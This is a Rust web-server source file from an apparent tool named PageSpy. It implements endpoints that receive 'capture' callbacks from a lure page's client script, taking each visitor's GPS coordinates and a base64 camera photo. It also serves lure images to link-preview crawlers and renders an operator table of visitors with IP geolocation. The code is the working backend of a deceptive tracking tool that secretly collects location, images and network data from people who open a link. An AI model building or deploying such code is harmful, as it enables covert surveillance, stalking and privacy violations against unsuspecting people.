//! Capture callback endpoints.
//!
//! The client script posts its two artifacts here, tagged with the view id
//! it was rendered with. Both endpoints are idempotent: a callback for a
//! field that is already set answers `{}` without touching storage, so
//! replayed or duplicated callbacks are harmless.

use std::sync::Arc;

use actix_web::{HttpResponse, Responder, web};
use base64::Engine;
use serde::Deserialize;
use serde_json::json;
use tracing::{debug, error};

use crate::errors::PageSpyError;
use crate::render::{self, ViewRow};
use crate::services::{IpInfoProvider, LureService, ViewService};
use crate::storage::LureContent;

#[derive(Debug, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct LocationCallback {
    pub page_view_id: String,
    pub latitude: String,
    pub longitude: String,
}

#[derive(Debug, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct PhotoCallback {
    pub page_view_id: String,
    pub photo_base64: String,
}

pub async fn page_view_location(
    body: web::Json<LocationCallback>,
    view_service: web::Data<Arc<ViewService>>,
) -> impl Responder {
    let body = body.into_inner();

    match view_service
        .attach_location(&body.page_view_id, &body.latitude, &body.longitude)
        .await
    {
        Ok(()) => HttpResponse::Ok().json(json!({})),
        Err(PageSpyError::NotFound(msg)) => {
            debug!("Location callback for unknown view: {}", msg);
            HttpResponse::NotFound().json(json!({ "error": "Page view não encontrado" }))
        }
        Err(e) => {
            error!("Location callback failed: {}", e);
            HttpResponse::InternalServerError().json(json!({ "error": "Erro interno do servidor" }))
        }
    }
}

pub async fn page_view_photo(
    body: web::Json<PhotoCallback>,
    view_service: web::Data<Arc<ViewService>>,
) -> impl Responder {
    let body = body.into_inner();

    match view_service
        .attach_photo(&body.page_view_id, &body.photo_base64)
        .await
    {
        Ok(()) => HttpResponse::Ok().json(json!({})),
        Err(PageSpyError::NotFound(msg)) => {
            debug!("Photo callback for unknown view: {}", msg);
            HttpResponse::NotFound().json(json!({ "error": "Page view não encontrado" }))
        }
        Err(e) => {
            error!("Photo callback failed: {}", e);
            HttpResponse::InternalServerError().json(json!({ "error": "Erro interno do servidor" }))
        }
    }
}

/// Split a data URI into its mime type and decoded bytes.
fn decode_data_uri(data_uri: &str) -> Option<(String, Vec<u8>)> {
    let rest = data_uri.strip_prefix("data:")?;
    let (header, payload) = rest.split_once(',')?;
    let mime = header
        .split(';')
        .next()
        .filter(|m| !m.is_empty())
        .unwrap_or("image/png");
    if !header.contains("base64") {
        return None;
    }

    let bytes = base64::engine::general_purpose::STANDARD
        .decode(payload)
        .ok()?;
    Some((mime.to_string(), bytes))
}

/// Raw image bytes of an IMAGE lure. This is what social-preview crawlers
/// fetch; anything that cannot produce bytes answers an empty JSON object.
pub async fn get_image_page(
    lure_id: web::Path<String>,
    lure_service: web::Data<Arc<LureService>>,
) -> impl Responder {
    let lure = match lure_service.get_lure(&lure_id).await {
        Ok(Some(lure)) => lure,
        Ok(None) => return HttpResponse::Ok().json(json!({})),
        Err(e) => {
            error!("Image lookup failed for lure {}: {}", lure_id, e);
            return HttpResponse::Ok().json(json!({}));
        }
    };

    match &lure.content {
        LureContent::Image(data_uri) => match decode_data_uri(data_uri) {
            Some((mime, bytes)) => HttpResponse::Ok().content_type(mime).body(bytes),
            None => {
                error!("Stored image for lure {} is not a decodable data URI", lure.id);
                HttpResponse::Ok().json(json!({}))
            }
        },
        LureContent::Text(_) => HttpResponse::Ok().json(json!({})),
    }
}

/// HTML review table of one lure's views, newest first.
pub async fn show_page_view(
    lure_id: web::Path<String>,
    lure_service: web::Data<Arc<LureService>>,
    view_service: web::Data<Arc<ViewService>>,
    ipinfo: web::Data<Arc<IpInfoProvider>>,
) -> impl Responder {
    let lure = match lure_service.get_lure(&lure_id).await {
        Ok(Some(lure)) => lure,
        Ok(None) => {
            return HttpResponse::NotFound()
                .insert_header(("Content-Type", "text/plain; charset=utf-8"))
                .body("Page not found");
        }
        Err(e) => {
            error!("Lure lookup failed for {}: {}", lure_id, e);
            return HttpResponse::InternalServerError()
                .insert_header(("Content-Type", "text/plain; charset=utf-8"))
                .body("Internal Server Error");
        }
    };

    let views = match view_service.list_by_lure(&lure.id).await {
        Ok(views) => views,
        Err(e) => {
            error!("View listing failed for lure {}: {}", lure.id, e);
            return HttpResponse::InternalServerError()
                .insert_header(("Content-Type", "text/plain; charset=utf-8"))
                .body("Internal Server Error");
        }
    };

    let mut rows = Vec::with_capacity(views.len());
    for view in views {
        let info = ipinfo.lookup(&view.ip).await;
        rows.push(ViewRow { view, ipinfo: info });
    }

    HttpResponse::Ok()
        .insert_header(("Content-Type", "text/html; charset=utf-8"))
        .body(render::views_table(&lure, &rows))
}

/// Public API routes: capture callbacks and the raw-image endpoint.
pub fn capture_routes() -> actix_web::Scope {
    web::scope("/api")
        .route("/page-view-location", web::post().to(page_view_location))
        .route("/page-view-photo", web::post().to(page_view_photo))
        .route("/get-image-page/{lure_id}", web::get().to(get_image_page))
        .route("/show-page-view/{lure_id}", web::get().to(show_page_view))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_decode_data_uri_png() {
        let (mime, bytes) = decode_data_uri("data:image/png;base64,iVBORw0KGgo=").unwrap();
        assert_eq!(mime, "image/png");
        assert_eq!(&bytes[..4], b"\x89PNG");
    }

    #[test]
    fn test_decode_data_uri_jpeg_mime() {
        let (mime, _) = decode_data_uri("data:image/jpeg;base64,AAAA").unwrap();
        assert_eq!(mime, "image/jpeg");
    }

    #[test]
    fn test_decode_data_uri_rejects_non_base64_encoding() {
        assert!(decode_data_uri("data:text/plain,hello").is_none());
    }

    #[test]
    fn test_decode_data_uri_rejects_garbage() {
        assert!(decode_data_uri("not-a-data-uri").is_none());
        assert!(decode_data_uri("data:image/png;base64,!!!").is_none());
    }
}
